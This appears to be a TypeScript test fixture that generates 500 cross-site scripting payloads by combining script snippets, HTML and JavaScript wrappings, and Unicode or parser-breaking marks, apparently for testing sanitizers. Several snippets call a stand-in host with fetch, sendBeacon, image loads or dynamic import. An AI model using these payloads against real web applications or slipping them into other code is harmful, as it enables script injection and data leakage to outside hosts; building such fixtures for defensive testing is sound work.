/**
 * Payloads: 500 texts that try to be more than text, each another one: what runs, in what wrapping.
 *
 * Whatever of them runs sets `globalThis.owned`, asks another host, or both.
 */

const away = 'https://away.example';

/** What is to happen, as script. */
const scripts = [
  'globalThis.owned=1',
  `globalThis.owned=1;fetch('${away}/f')`,
  `top.owned=1;new Image().src='${away}/i'`,
  `window['own'+'ed']=1`,
  `(()=>{}).constructor('globalThis.owned=1')()`,
  `setTimeout('globalThis.owned=1')`,
  `import('${away}/m.js').then(()=>owned=1)`,
  `navigator.sendBeacon('${away}/b');owned=1`,
  `location='${away}/l'`,
  `document.body.innerHTML='<img src=${away}/h onerror=owned=1>'`,
];

/** Signs that change what is seen, or end a parser's state. */
const marks = ['', '\u202e', '\u2066\u200f', '"\'>', '--></style></script></textarea></title>'];

type Wrapping = (script: string) => string;

const wrappings: readonly Wrapping[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}"><img src=${away}/p.png>`,
  (script) => `<svg/onload=${script}><use href="${away}/s.svg#x"></use></svg>`,
  (script) => `<iframe srcdoc="&lt;script&gt;parent.owned=1;${script}&lt;/script&gt;"></iframe>`,
  (script) => `javascript:${script} <a href="javascript:${script}">x</a>`,
  (script) => `https://x.example/"onmouseover="${script}"autofocus onfocus="${script}`,
  (script) =>
    `<link rel=stylesheet href=${away}/c.css><style>@import '${away}/d.css';*{x:expression(${script})}</style>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}"><base href=${away}/>`,
  (script) => `\${${script}} {{constructor.constructor("${script}")()}} <!--?lit$123$-->`,
  (script) =>
    `<form action=${away}/a><button autofocus formaction="javascript:${script}">x</form><object data=${away}/o>`,
];

/** Wrapping by script by marks: 10 × 10 × 5. */
export function payloads(): string[] {
  return wrappings.flatMap((wrap) =>
    scripts.flatMap((script) => marks.map((mark) => `${mark}${wrap(script)}`)),
  );
}
